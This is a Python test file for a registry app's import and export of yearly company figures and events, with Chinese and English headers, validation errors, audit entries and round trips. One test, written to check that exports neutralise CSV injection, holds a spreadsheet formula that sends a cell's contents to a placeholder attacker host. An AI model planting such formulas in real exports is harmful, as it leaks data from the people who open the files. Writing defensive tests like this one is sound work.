"""Import/export of yearly figures and events: row-by-row checks, all or nothing, round trip."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from policyhub.audit.models import AuditEntry
from policyhub.registry.io import ImportFailed, export_file, import_file, read_rows
from policyhub.registry.models import Organisation, Person, RegistryEvent, YearlyFigure
from tests.personas import Personas, personas
from tests.registry.helpers import other_organisation, write_csv, write_xlsx

pytestmark = pytest.mark.django_db
ZH = ["统一社会信用代码", "年度", "主营业务收入（元）", "纳税额", "研发投入", "从业人数",
      "来源单位"]
EN = ["credit_code", "year", "main_business_revenue", "tax_paid", "rd_spend", "headcount",
      "source"]


@pytest.fixture
def p() -> Personas:
    return personas()


@pytest.mark.parametrize("writer", [write_xlsx, write_csv])
def test_a_good_figures_file_imports_in_chinese_or_english(p: Personas, tmp_path: Path,
                                                          writer: object) -> None:
    code = p.org.credit_code
    suffix = ".xlsx" if writer is write_xlsx else ".csv"
    rows = [ZH, [code, 2019, 12000000.5, "600000", None, 35, "市工业和信息化局"],
            [code, "2020", "62,000,000", 1234.56, "5000000", "40", "miit"]]
    path = writer(tmp_path / f"f{suffix}", rows)  # type: ignore[operator]
    result = import_file(path, "figures", actor=p.applicant)
    assert (result.rows, result.created, result.updated) == (2, 2, 0)
    f2019, f2020 = YearlyFigure.objects.order_by("year")
    assert f2019.main_business_revenue == Decimal("12000000.50") and f2019.rd_spend is None
    assert f2020.main_business_revenue == Decimal("62000000") and f2020.headcount == 40
    assert f2020.tax_paid == Decimal("1234.56") and f2020.source is not None
    assert AuditEntry.objects.filter(action="registry.figure.record").count() == 2
    # English headers, a second import replaces the year
    again = writer(tmp_path / f"g{suffix}", [EN, [code, 2020, 70000000, "", "", "", ""]])  # type: ignore[operator]
    assert import_file(again, "figures").updated == 1
    assert YearlyFigure.objects.get(year=2020).main_business_revenue == Decimal("70000000")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_bad_file_reports_every_bad_row_and_imports_nothing(p: Personas, tmp_path: Path,
                                                             suffix: str) -> None:
    code = p.org.credit_code
    bad_code = code[:17] + ("0" if code[17] != "0" else "1")
    rows: list[list[Any]] = [
            ZH,
            [code, 2019, 100, None, None, None, None],            # good
            [bad_code, 2020, 100, None, None, None, None],        # row 3: check digit
            [code, 2020, "12.345", None, None, None, None],       # row 4: below the fen
            [code, 2021, 100, None, None, None, None],            # good
            [code, 2019, -5, None, None, None, "nowhere"]]        # row 6: three problems
    path = (write_xlsx if suffix == ".xlsx" else write_csv)(tmp_path / f"bad{suffix}", rows)
    with pytest.raises(ImportFailed) as info:
        import_file(path, "figures", actor=p.applicant)
    errors = info.value.errors
    assert sorted({e.row for e in errors}) == [3, 4, 6]
    by_row = {(e.row, e.column) for e in errors}
    assert (3, "统一社会信用代码") in by_row and (4, "主营业务收入") in by_row
    assert {(6, "主营业务收入"), (6, "年度"), (6, "来源单位")} <= by_row
    assert "GB 32100-2015" in next(e.reason for e in errors if e.row == 3)
    assert not YearlyFigure.objects.exists()
    refusal = AuditEntry.objects.get(action="registry.import")
    assert refusal.allowed is False and "3 行" in refusal.reason


def test_headers_unknown_or_missing_are_reported(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "h.csv", [["统一社会信用代码", "营业额"], ["x", "1"]])
    with pytest.raises(ImportFailed) as info:
        read_rows(path, "figures")
    reasons = {(e.row, e.column) for e in info.value.errors}
    assert (1, "营业额") in reasons and (1, "年度/year") in reasons


def test_rows_for_another_organisation_are_refused_for_an_applicant(p: Personas,
                                                                   tmp_path: Path) -> None:
    other = other_organisation()
    path = write_csv(tmp_path / "o.csv", [EN, [p.org.credit_code, 2020, 1, "", "", "", ""],
                                          [other.credit_code, 2020, 1, "", "", "", ""]])
    with pytest.raises(ImportFailed) as info:
        import_file(path, "figures", actor=p.applicant)
    assert [e.row for e in info.value.errors] == [3]
    assert not YearlyFigure.objects.exists()


EVENT_HEADER = ["统一社会信用代码", "人才编号", "团队编号", "事件类型", "日期", "事项编号",
                "级别", "阶段", "总投资", "实际投资", "项目类型", "重大公共平台", "服务费明细",
                "类别"]


def _row(**cells: Any) -> list[Any]:
    """One events row; keyword names are the English aliases of EVENT_HEADER's columns."""
    names = ["credit_code", "person_id", "team_id", "type", "date", "matter", "level",
             "stage", "total_investment", "actual_investment", "kind",
             "major_public_platform", "fees", "category"]
    return [cells.get(n) for n in names]


def _events_rows(org: Organisation, person: Person) -> list[list[Any]]:
    code = org.credit_code
    return [EVENT_HEADER,
            _row(credit_code=code, type="standard_led", date="2020-05-10", matter="std-1",
                 level="national"),
            _row(credit_code=code, type="project_investment", date=dt.datetime(2020, 6, 1),
                 matter="p-1", total_investment=60000000, actual_investment="30000000.5",
                 kind="new_build"),
            _row(person_id=person.pk, type="urgent_talent", date="2020/7/1", category="B"),
            _row(credit_code=code, type="platform_service_fees", date="2019-09-01",
                 matter="plat", major_public_platform="是",
                 fees="2020-01-05:120000;2020-06-30:80000.50")]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_events_import_and_round_trip(p: Personas, tmp_path: Path, suffix: str) -> None:
    person = Person.objects.create(name="王芳")  # no organisation: exported all the same
    writer = write_xlsx if suffix == ".xlsx" else write_csv
    rows = _events_rows(p.org, person)
    import_file(writer(tmp_path / f"e{suffix}", rows), "events", actor=p.bureau_officer)
    events = list(RegistryEvent.objects.order_by("date", "id"))
    assert [e.type for e in events] == ["platform_service_fees", "standard_led",
                                        "project_investment", "urgent_talent"]
    assert events[0].payload == {"major_public_platform": True,
                                 "fees": [{"date": "2020-01-05", "amount": "120000"},
                                          {"date": "2020-06-30", "amount": "80000.50"}]}
    assert events[2].payload["actual_investment"] == "30000000.5"
    assert events[3].person == person and events[3].payload == {"category": "B"}
    before = [(e.type, e.date, e.matter, e.payload, e.person_id, e.organisation_id)
              for e in events]

    out = tmp_path / f"export{suffix}"
    assert export_file(out, "events") == 4
    RegistryEvent.objects.all().delete()
    import_file(out, "events")
    after = [(e.type, e.date, e.matter, e.payload, e.person_id, e.organisation_id)
             for e in RegistryEvent.objects.order_by("date", "id")]
    assert after == before


def test_a_bad_events_file_names_the_column_the_engine_refused(p: Personas,
                                                               tmp_path: Path) -> None:
    code = p.org.credit_code
    rows = [EVENT_HEADER,
            _row(credit_code=code, type="ipo_stage", date="2020-01-01", stage="ipo"),
            _row(credit_code=code, person_id=1, type="standard_led", date="2020-01-01",
                 level="national"),
            _row(credit_code=code, type="standard_led", date="2020-02-30", level="national",
                 total_investment=5),
            _row(credit_code=code, type="bogus", date="2020-01-01"),
            _row(credit_code=code, type="urgent_talent", date="2020-01-01")]
    with pytest.raises(ImportFailed) as info:
        import_file(write_csv(tmp_path / "bad.csv", rows), "events", actor=p.applicant)
    got = {(e.row, e.column) for e in info.value.errors}
    assert (2, "阶段") in got
    assert (3, "统一社会信用代码/人才编号/团队编号") in got
    assert {(4, "日期"), (4, "总投资")} <= got
    assert (5, "事件类型") in got
    assert (6, "类别") in got
    assert not RegistryEvent.objects.exists()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_figures_round_trip(p: Personas, tmp_path: Path, suffix: str) -> None:
    other = other_organisation()
    rows: list[list[Any]] = [
        EN, [p.org.credit_code, 2019, "12345678901.23", "0.10", "", 7, "市财政局"],
            [other.credit_code, 2020, "5", "", "99.99", "", ""]]
    import_file(write_csv(tmp_path / "in.csv", rows), "figures")
    snapshot = list(YearlyFigure.objects.order_by("organisation__credit_code", "year").values(
        "organisation", "year", "main_business_revenue", "tax_paid", "rd_spend", "headcount",
        "source"))
    out = tmp_path / f"out{suffix}"
    assert export_file(out, "figures") == 2
    YearlyFigure.objects.all().delete()
    import_file(out, "figures")
    assert list(YearlyFigure.objects.order_by("organisation__credit_code", "year").values(
        "organisation", "year", "main_business_revenue", "tax_paid", "rd_spend", "headcount",
        "source")) == snapshot


def test_unsupported_files_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "x.xls"
    path.write_bytes(b"old")
    with pytest.raises(ImportFailed):
        import_file(path, "figures")


def test_a_revised_standard_imports_with_its_revision_and_round_trips(
        p: Personas, tmp_path: Path) -> None:
    """Contract Revision 2 (R5): the 修订 column carries standard_led.revision; empty = drafted."""
    code = p.org.credit_code
    rows = [["统一社会信用代码", "事件类型", "日期", "级别", "修订"],
            [code, "standard_led", "2020-05-10", "local", "是"],
            [code, "standard_led", "2020-06-10", "local", None]]
    import_file(write_csv(tmp_path / "s.csv", rows), "events", actor=p.bureau_officer)
    payloads = [e.payload for e in RegistryEvent.objects.order_by("date")]
    assert payloads == [{"level": "local", "revision": True}, {"level": "local"}]
    out = tmp_path / "export.csv"
    export_file(out, "events")
    exported = read_rows(out, "events")[0]
    assert [r.values.get("revision") for r in exported] == [True, None]


def test_the_same_events_file_imported_again_adds_nothing(p: Personas, tmp_path: Path) -> None:
    person = Person.objects.create(name="王芳")
    path = write_csv(tmp_path / "e.csv", _events_rows(p.org, person))
    first = import_file(path, "events", actor=p.bureau_officer)
    again = import_file(path, "events", actor=p.bureau_officer)
    assert (first.created, first.unchanged) == (4, 0)
    assert (again.rows, again.created, again.unchanged) == (4, 0, 4)
    assert RegistryEvent.objects.count() == 4
    assert AuditEntry.objects.filter(action="registry.event.record").count() == 4
    summary = AuditEntry.objects.filter(action="registry.import").order_by("seq").last()
    assert summary is not None and summary.payload["unchanged"] == 4


def test_one_event_written_twice_in_a_file_is_refused(p: Personas, tmp_path: Path) -> None:
    rows = _events_rows(p.org, Person.objects.create(name="王芳"))
    path = write_csv(tmp_path / "e.csv", [*rows, rows[1]])
    with pytest.raises(ImportFailed) as info:
        import_file(path, "events", actor=p.bureau_officer)
    assert [(e.row, e.column) for e in info.value.errors] == [(6, "事件类型")]
    assert "与第2行是同一事件" in info.value.errors[0].reason
    assert not RegistryEvent.objects.exists()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_export_quotes_formulas_and_imports_back_unchanged(p: Personas, tmp_path: Path,
                                                               suffix: str) -> None:
    """OWASP CSV injection: the matter is written `'=…` (text), and read back without the
    apostrophe, so the file still round-trips."""
    import csv

    from openpyxl import load_workbook

    from policyhub.registry import services

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    services.record_event(None, p.org, "standard_led", dt.date(2020, 5, 10),
                          {"level": "national"}, matter=evil)
    out = tmp_path / f"export{suffix}"
    assert export_file(out, "events") == 1
    if suffix == ".csv":
        rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
        assert "'" + evil in rows[1]
    else:
        sheet = load_workbook(out).active
        assert sheet is not None
        quoted = [c for c in sheet[2] if c.value == "'" + evil]
        assert len(quoted) == 1 and quoted[0].data_type == "s"
    RegistryEvent.objects.all().delete()
    import_file(out, "events")
    assert RegistryEvent.objects.get().matter == evil


@pytest.mark.parametrize(("year", "accepted"),
                         [(1989, False), (1990, True), (2027, True), (2028, False)])
def test_a_figures_year_is_1990_to_next_year(p: Personas, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch,
                                            year: int, accepted: bool) -> None:
    from policyhub import clock

    monkeypatch.setattr(clock, "today", lambda: dt.date(2026, 12, 31))
    path = write_csv(tmp_path / "f.csv", [ZH[:3], [p.org.credit_code, year, "100"]])
    if accepted:
        assert import_file(path, "figures", actor=p.bureau_officer).created == 1
        assert YearlyFigure.objects.filter(year=year).exists()
        return
    with pytest.raises(ImportFailed) as info:
        import_file(path, "figures", actor=p.bureau_officer)
    (error,) = info.value.errors
    assert (error.row, error.column, error.value) == (2, "年度", str(year))
    assert error.reason == f"年度 {year} 超出范围：年度应在 1990 至 2027 年之间（今年加一年）"
    assert not YearlyFigure.objects.exists()
